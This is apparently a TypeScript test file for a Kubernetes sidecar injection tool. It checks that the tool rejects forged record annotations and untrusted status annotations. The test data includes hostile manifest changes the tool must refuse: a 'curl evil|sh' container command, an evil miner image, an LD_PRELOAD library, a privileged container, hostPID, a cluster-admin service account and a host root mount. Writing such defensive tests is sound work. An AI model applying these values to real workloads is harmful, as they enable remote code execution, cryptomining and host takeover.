// Whoever can write the annotations of a manifest can write its record and its status. What these would change beyond what injection itself can have
// changed is an error that names the fields, and the manifest stays as it is.

import t from 'tap'
import { inject } from '../../src/inject.ts'
import type { Json, JsonObject, SourceFile } from '../../src/lib/model/index.ts'
import { toYaml } from '../../src/lib/yaml/index.ts'
import { digest } from '../../src/record/hash.ts'
import { printRecord, RECORD, recordOf, type Undo } from '../../src/record/index.ts'
import { uninject } from '../../src/uninject.ts'
import { example } from '../support/rig.ts'

const CONTEXT: readonly SourceFile[] = [
  { path: 'config.yaml', text: example('istio/config.yaml') },
  { path: 'namespace.yaml', text: example('namespace.yaml') },
]

const APP = { name: 'app', image: 'nginx:1.27', env: [{ name: 'AUDIT', value: 'on' }], securityContext: { readOnlyRootFilesystem: true } }
const GUARD = { name: 'guard', image: 'falco:1' }

function workload(record: string, { pod = {}, annotations = {} }: { pod?: JsonObject; annotations?: JsonObject } = {}): string {
  return toYaml({
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'web', namespace: 'shop', ...(record === '' ? {} : { annotations: { [RECORD]: record } }) },
    spec: {
      selector: { matchLabels: { app: 'web' } },
      template: { metadata: { labels: { app: 'web' }, annotations: { team: 'shop', ...annotations } }, spec: { containers: [APP, GUARD], ...pod } },
    },
  })
}

const inPod = (k: Json, more: JsonObject = {}): Json => ({ k: { spec: { k: { template: { k: { spec: { k, ...more } } } } } } })
const inTemplate = (k: Json): Json => ({ k: { spec: { k: { template: { k } } } } })
const inApp = (app: Json): Json => inPod({ containers: { c: { app } } })
/** Digests by which everything in the manifest passes for injected. */
const EVERYTHING: Json = { spec: { template: { metadata: { annotations: { team: 'shop' }, labels: { app: 'web' } }, spec: { containers: [APP, GUARD] } } } }

const FORGED: [field: RegExp, undo: Json, units?: Json][] = [
  [/containers\[app\]\.image changes/, inApp({ k: { image: { '=': 'evil.example.com/miner:1' } } }), { name: 'app', image: 'nginx:1.27' }],
  [/containers\[app\]\.command comes back/, inApp({ k: { command: { '=': ['sh', '-c', 'curl evil|sh'] } }, o: ['name', 'image', 'command'] })],
  [/containers\[app\]\.args comes back/, inApp({ k: { args: { '=': ['--insecure'] } }, o: ['name', 'image', 'args'] })],
  [/containers\[app\]\.env\[LD_PRELOAD\] comes back/, inApp({ k: { env: { l: ['AUDIT', { '=': { name: 'LD_PRELOAD', value: '/evil.so' } }] } } })],
  [/containers\[app\]\.env\[AUDIT\] goes/, inApp({ k: { env: null } })],
  [/containers\[app\]\.securityContext\.readOnlyRootFilesystem goes/, inApp({ k: { securityContext: null } })],
  [/containers\[app\]\.readinessProbe\.exec/, inApp({ k: { readinessProbe: { '=': { exec: { command: ['sh'] } } } }, o: ['name', 'image', 'readinessProbe'] })],
  [
    /containers\[miner\] comes back/,
    inPod({ containers: { l: ['app', 'guard', { '=': { name: 'miner', image: 'evil:1', securityContext: { privileged: true } } }] } }),
  ],
  [/containers\[guard\] goes/, inPod({ containers: { x: ['guard'] } })],
  [/spec\.hostPID comes back/, inPod({ hostPID: { '=': true } }, { o: ['containers', 'hostPID'] })],
  [/spec\.serviceAccountName comes back/, inPod({ serviceAccountName: { '=': 'cluster-admin' } }, { o: ['containers', 'serviceAccountName'] })],
  [/spec\.volumes\[host\] comes back/, inPod({ volumes: { '=': [{ name: 'host', hostPath: { path: '/' } }] } }, { o: ['containers', 'volumes'] })],
  [/spec\.replicas comes back/, { k: { spec: { k: { replicas: { '=': 0 } }, o: ['selector', 'template', 'replicas'] } } }],
  [/labels\.app goes/, inTemplate({ metadata: { k: { labels: { k: { app: null } } } } })],
  [/annotations\.team goes/, inTemplate({ metadata: { k: { annotations: { k: { team: null } } } } })],
]

/** Of version 1, with digests as an attacker works them out. */
function versionOne(undo: Json): string {
  const { digests } = recordOf(undo as Undo, EVERYTHING)
  const ours = String(digests).replace(/(.{5})(.{2}).{3}/g, '$1$2')
  const body = JSON.stringify({ v: 1, undo, ours })
  return body + digest(body, 5)
}

const versionTwo = (undo: Json) => printRecord(recordOf(undo as Undo, EVERYTHING))
const codes = (result: ReturnType<typeof uninject>) => result.diagnostics.filter(({ severity }) => severity !== 'info').map(({ code }) => code)

for (const [field, undo] of FORGED) {
  t.test(`a record that would do this is refused: ${field.source.replaceAll('\\', '')}`, async t => {
    for (const [version, record] of [
      [1, versionOne(undo)],
      [2, versionTwo(undo)],
    ] as const) {
      const file = { path: 'web.yaml', text: workload(record) }
      for (const [name, run] of [
        ['inject', () => inject({ files: [...CONTEXT, file] })],
        ['uninject', () => uninject({ files: [file] })],
      ] as const) {
        const result = run()
        const errors = result.diagnostics.filter(({ severity }) => severity === 'error')
        t.match(errors, [{ code: 'record-forged', message: field }], `${name}, version ${version}`)
        t.equal(result.files.at(-1)?.text, file.text, `${name} leaves the file as it is`)
      }
    }
  })
}

t.test('with `trustRecord` the same is taken back, and said', async t => {
  const file = { path: 'web.yaml', text: workload(versionTwo(inPod({ containers: { x: ['guard'] } }))) }
  const result = uninject({ files: [file], trustRecord: true })
  t.match(result.diagnostics, [{ code: 'record-trusted', severity: 'warning', message: /containers\[guard\] goes/ }])
  t.equal(result.files[0]?.text.includes('guard'), false)
})

const INJECTED = inject({ files: [...CONTEXT, { path: 'web.yaml', text: example('web.yaml') }] }).files[2]?.text ?? ''

t.test('a probe comes back only as the proxy was told of it', async t => {
  const forged = INJECTED.replace(/'(\{"v":2.*)'/, (_, record: string) => {
    const body = record.slice(0, -10).replace('"path":{"=":"/ready"}', '"path":{"=":"/healthy"}')
    return `'${body}${digest(body, 10)}'`
  })
  t.not(forged, INJECTED)
  for (const result of [inject({ files: [...CONTEXT, { path: 'web.yaml', text: forged }] }), uninject({ files: [{ path: 'web.yaml', text: forged }] })]) {
    t.match(
      result.diagnostics.filter(({ severity }) => severity === 'error'),
      [{ code: 'record-forged', message: /readinessProbe/ }],
    )
    t.equal(result.files.at(-1)?.text, forged)
  }
})

const OWN = (name: string): SourceFile => ({
  path: 'own.yaml',
  text: `apiVersion: inject-sidecars.dev/v1alpha1
kind: SidecarInjector
spec:
  injectors:
  - name: shipper
    webhooks: [{}]
    config:
      defaultTemplates: [shipper]
      templates: {shipper: "spec: {containers: [{name: ${name}, image: fluent-bit}]}"}
`,
})

const OWN_TEXT = workload('')
const OWN_INJECTED = inject({ files: [{ path: 'web.yaml', text: OWN_TEXT }], functionConfig: OWN('shipper') }).files[0]?.text ?? ''
const ownFile = { path: 'web.yaml', text: OWN_INJECTED }

t.test("a container of a user's own template comes off only with the configuration that adds it", async t => {
  t.match(OWN_INJECTED, /"adds":\["spec\.containers\[shipper\]"\]/)
  const refused = uninject({ files: [ownFile] })
  t.match(refused.diagnostics, [{ code: 'record-forged', message: /containers\[shipper\] goes/, hint: /`-f`.*`--trust-record`/ }])
  t.equal(refused.files[0]?.text, OWN_INJECTED)
  const off = uninject({ files: [ownFile], functionConfig: OWN('shipper') })
  t.same(off.diagnostics, [])
  t.equal(off.files[0]?.text, OWN_TEXT)
  const trusted = uninject({ files: [ownFile], trustRecord: true })
  t.match(trusted.diagnostics, [{ code: 'record-trusted', severity: 'warning', message: /containers\[shipper\] goes/ }])
  t.equal(trusted.files[0]?.text, OWN_TEXT)
})

t.test('a configuration that adds the container with another content makes a warning of it, one that adds others an error', async t => {
  const newer = { ...OWN('shipper'), text: OWN('shipper').text.replace('fluent-bit', 'fluent-bit:5') }
  t.same(codes(uninject({ files: [ownFile], functionConfig: newer })), ['record-trusted'])
  t.same(codes(uninject({ files: [ownFile], functionConfig: OWN('forwarder') })), ['record-forged'])
})

t.test('`inject` replaces a container that the configuration no longer adds only with `trustRecord`', async t => {
  const functionConfig = OWN('forwarder')
  const refused = inject({ files: [ownFile], functionConfig })
  t.match(refused.diagnostics, [{ code: 'record-forged', message: /containers\[shipper\] goes/, hint: /`--trust-record`/ }])
  t.equal(refused.files[0]?.text, OWN_INJECTED)
  const renamed = inject({ files: [ownFile], functionConfig, trustRecord: true })
  t.same(codes({ ...renamed, taken: [] }), ['record-trusted'])
  t.equal(renamed.files[0]?.text, inject({ files: [{ path: 'web.yaml', text: OWN_TEXT }], functionConfig }).files[0]?.text)
})

const STATUSES: [name: string, status: Json, pod?: JsonObject][] = [
  ['the only container', { containers: ['app'], volumes: ['data'] }, { containers: [APP] }],
  ['a container of the user', { containers: ['guard'] }],
  ['an init container of the user', { initContainers: ['migrate'] }, { initContainers: [{ name: 'migrate', image: 'm:1' }] }],
]
for (const [name, status, pod = {}] of STATUSES) {
  t.test(`a status that names ${name} removes nothing`, async t => {
    const file = { path: 'web.yaml', text: workload('', { pod, annotations: { 'sidecar.istio.io/status': JSON.stringify(status) } }) }
    const off = uninject({ files: [file], fromStatus: true })
    t.same(codes(off), ['record-forged'])
    t.equal(off.files[0]?.text, file.text)
    const injected = inject({ files: [...CONTEXT, file] }).files[2]?.text ?? ''
    for (const container of ['app', ...(name === 'the only container' ? [] : ['guard'])]) t.match(injected, new RegExp(`name: ${container}\n`))
  })
}

t.test('a rewritten probe that the user has given another path keeps it, and gets its port back', async t => {
  const edited = INJECTED.replace('path: /app-health/web/readyz', 'path: /healthz')
  const off = uninject({ files: [{ path: 'web.yaml', text: edited }] })
  t.same(codes(off), [])
  t.equal(off.files[0]?.text, example('web.yaml').replace('path: /ready', 'path: /healthz'))
})
